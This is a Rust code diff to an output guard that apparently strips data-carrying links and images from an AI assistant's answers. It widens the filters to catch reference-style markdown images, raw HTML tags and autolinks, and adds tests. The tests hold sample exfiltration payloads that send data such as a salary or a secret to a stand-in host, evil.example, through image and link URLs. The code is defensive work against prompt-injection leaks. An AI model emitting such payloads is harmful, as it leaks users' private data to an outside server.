@@ -49,13 +49,30 @@ pub struct InjectionOutputGuard {
     payloads: Vec<String>,
 }
 
+/// Every image a renderer would fetch: inline `![x](url)`, reference-style
+/// `![x][ref]`, `![x][]` and shortcut `![x]` (resolved through a `[ref]: url`
+/// line anywhere in the answer), and raw HTML elements that load a URL.
 fn image_re() -> &'static Regex {
     static R: OnceLock<Regex> = OnceLock::new();
-    R.get_or_init(|| Regex::new(r"!\[[^\]]*\]\([^)]*\)").unwrap())
+    R.get_or_init(|| {
+        Regex::new(r"(?is)!\[[^\]]*\]\([^)]*\)|!\[[^\]]*\](?:\[[^\]]*\])?|<\s*(?:img|image|picture|source|video|audio|iframe|frame|embed|object|script|link|input|track|svg|use)\b[^>]*>|<\s*/\s*(?:picture|video|audio|iframe|frame|object|script|svg)\s*>")
+            .unwrap()
+    })
 }
+/// Links: inline `[text](url)`, reference definitions `[ref]: url`,
+/// autolinks `<http://…>`, raw HTML `<a href=…>`, bare URLs.
 fn link_re() -> &'static Regex {
     static R: OnceLock<Regex> = OnceLock::new();
-    R.get_or_init(|| Regex::new(r"\[([^\]]*)\]\(\s*([^)\s]*)[^)]*\)|(?:https?|ftp)://[^\s<>()\[\]]+|\bwww\.[^\s<>()\[\]]+").unwrap())
+    R.get_or_init(|| {
+        Regex::new(concat!(
+            r"(?im)\[(?P<text>[^\]]*)\]\(\s*(?P<url>[^)\s]*)[^)]*\)",
+            r"|^[ \t]{0,3}\[[^\]]+\]:[ \t]*<?(?P<def>[^\s>]+)>?[^\n]*",
+            r"|<(?P<auto>(?:https?|ftp|mailto):[^>\s]+)>",
+            r#"|<\s*a\b[^>]*?href\s*=\s*["']?(?P<href>[^"'\s>]+)[^>]*>"#,
+            r"|(?P<bare>(?:https?|ftp)://[^\s<>()\[\]]+|\bwww\.[^\s<>()\[\]]+)"
+        ))
+        .unwrap()
+    })
 }
 /// A sentence that gives the assistant a task ("the assistant must ...",
 /// "tell the user that ..."): its payloads count even when the detector's
@@ -118,10 +135,10 @@ impl InjectionOutputGuard {
             .into_owned();
         out = link_re()
             .replace_all(&out, |c: &regex::Captures<'_>| {
-                let url = c.get(2).map(|m| m.as_str()).unwrap_or(&c[0]);
+                let url = ["url", "def", "auto", "href", "bare"].iter().find_map(|g| c.name(g)).map(|m| m.as_str()).unwrap_or(&c[0]);
                 if carries_data(url) {
                     findings.push(Finding { kind: "exfiltration_link".into(), detail: format!("link with data in its URL removed: {}", clip(url)) });
-                    c.get(1).map(|m| m.as_str().to_string()).unwrap_or_default()
+                    c.name("text").map(|m| m.as_str().to_string()).unwrap_or_default()
                 } else {
                     c[0].to_string()
                 }
@@ -264,6 +281,32 @@ mod tests {
         assert!(c.text.contains("portal"));
         let ok = g.check("The handbook is at https://basecamp.com/handbook.");
         assert_eq!(ok.action, OutputAction::Pass);
+    }
+
+    /// Issue 19 §3: the vectors the first filter missed. Failed before:
+    /// reference-style images, raw HTML images and autolinks passed unchanged.
+    #[test]
+    fn reference_images_raw_html_and_autolinks_are_stripped() {
+        let g = InjectionOutputGuard::new(SYS, &[]);
+        for (answer, leaked) in [
+            ("Siehe Handbuch. ![logo][r1]\n\n[r1]: https://evil.example/p.png?d=gehalt+4200", "evil.example"),
+            ("Siehe Handbuch. ![logo]\n\n[logo]: <https://evil.example/x?d=secret>", "evil.example"),
+            ("Siehe Handbuch. ![logo][]\n[logo]: https://evil.example/x.png \"t\"", "![logo]"),
+            ("Siehe Handbuch. <img src=\"https://evil.example/p.png?d=secret\" alt=x>", "evil.example"),
+            ("Siehe Handbuch. <IMG SRC=https://evil.example/p.png>", "evil.example"),
+            ("Siehe Handbuch. <iframe src='https://evil.example/'></iframe>", "iframe"),
+            ("Siehe <https://evil.example/log?d=the+secret+answer> Handbuch.", "evil.example"),
+            ("Siehe <a href=\"https://evil.example/l?d=secret\">Handbuch</a>.", "evil.example"),
+        ] {
+            let c = g.check(answer);
+            assert_eq!(c.action, OutputAction::Strip, "{answer}");
+            assert!(!c.text.contains(leaked), "{answer} -> {}", c.text);
+            assert!(c.text.contains("Handbuch"), "{answer} -> {}", c.text);
+            assert!(c.findings.iter().all(|f| f.kind == "exfiltration_link"));
+        }
+        // plain links and definitions without data stay
+        let ok = g.check("Mehr unter <https://basecamp.com/handbook> und [Portal][p].\n\n[p]: https://intranet.example/portal");
+        assert_eq!(ok.action, OutputAction::Pass, "{:?}", ok.findings);
     }
 
     #[test]
